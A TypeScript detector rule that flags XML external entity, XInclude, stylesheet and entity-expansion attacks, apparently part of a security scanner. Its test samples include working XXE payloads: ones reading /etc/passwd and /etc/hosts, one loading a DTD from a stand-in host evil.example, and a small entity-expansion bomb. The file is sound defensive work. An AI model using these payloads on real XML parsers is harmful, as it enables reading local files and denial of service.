import { defineAttack } from '../define-attack.ts';
import { sign } from '../signs.ts';

/** Types of documents that readers have at hand, by where those who made them keep them. */
const wellKnown = /"https?:\/\/www\.(?:w3\.org|apple\.com)\/[^"\s]{1,100}"\s*$/;

/** XML that makes its reader fetch or grow (CWE-611, CWE-776). Plain XML and the doctype of HTML are none. */
export const xmlExternalEntity = defineAttack({
  id: 'xml-external-entity',
  title: 'XML external entities and inclusion',
  cwe: 'CWE-611',
  owasp: 'API8:2023',
  gates: [sign.less | sign.plus],
  features: {
    entity: 'declares an entity',
    external: 'names a document that its reader would fetch',
    doctype: 'declares a document type of its own',
    inclusion: 'includes another document',
    stylesheet: 'brings a stylesheet that its reader would run',
    reference: 'asks for an entity of its own',
  },
  look({ text }, _field, note) {
    const entity = /<!(?:ENTITY|ELEMENT|ATTLIST|NOTATION)\s/i.exec(text);
    if (entity) note('entity', entity.index, entity.index + entity[0].length);
    const doctype = /<!DOCTYPE\s+([^\s>[]{1,80})\s*([^>[]{0,400})(\[?)/i.exec(text);
    if (doctype && !/^html$/i.test(doctype[1] ?? '')) {
      if (doctype[3] === '[') note('doctype', doctype.index, doctype.index + doctype[0].length);
      if (/\b(?:SYSTEM|PUBLIC)\b/i.test(doctype[2] ?? '') && !wellKnown.test(doctype[2] ?? ''))
        note('external', doctype.index, doctype.index + doctype[0].length);
    }
    if (entity && /\b(?:SYSTEM|PUBLIC)\s+["']/i.test(text.slice(entity.index, entity.index + 400)))
      note('external', entity.index, text.length);
    const coded = /\+ADw(?:-?!|AIQ-?)(?:DOCTYPE|ENTITY)/i.exec(text);
    if (coded) note('doctype', coded.index, coded.index + coded[0].length);
    const inclusion =
      /<(?:\w+:)?include\s[^>]{0,200}href|http:\/\/www\.w3\.org\/2001\/XInclude|<(?:\w{1,16}:)?(?:image|feimage|use|script)\s[^<>]{0,200}href\s{0,4}=\s{0,4}["']\s{0,4}(?:file|expect|php|jar|netdoc|gopher):/i.exec(
        text,
      );
    if (inclusion) note('inclusion', inclusion.index, inclusion.index + inclusion[0].length);
    const stylesheet = /<\?xml-stylesheet\s|<xsl:(?:stylesheet|template|value-of|copy-of|include|import)\b|<\?import\s|xmlns:php=/i.exec(
      text,
    );
    if (stylesheet) note('stylesheet', stylesheet.index, stylesheet.index + stylesheet[0].length);
    if (entity && /&\w{1,40};|%\w{1,40};/.test(text.slice(entity.index))) note('reference', entity.index, text.length);
  },
  worst: (length) => '<'.repeat(length),
  samples: {
    hits: [
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
      '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>',
      '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></x>',
      '<svg><image xlink:href="file:///etc/hosts"/></svg>',
      '<!DOCTYPE lol [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><r>&c;</r>',
    ],
    misses: [
      '<?xml version="1.0"?><a>b</a>',
      '<!DOCTYPE html><html></html>',
      'a <entity> b',
      '<a href="file:/dev/mouse">mouse</a>',
      '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>',
      '<!-- comment -->',
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    ],
  },
});
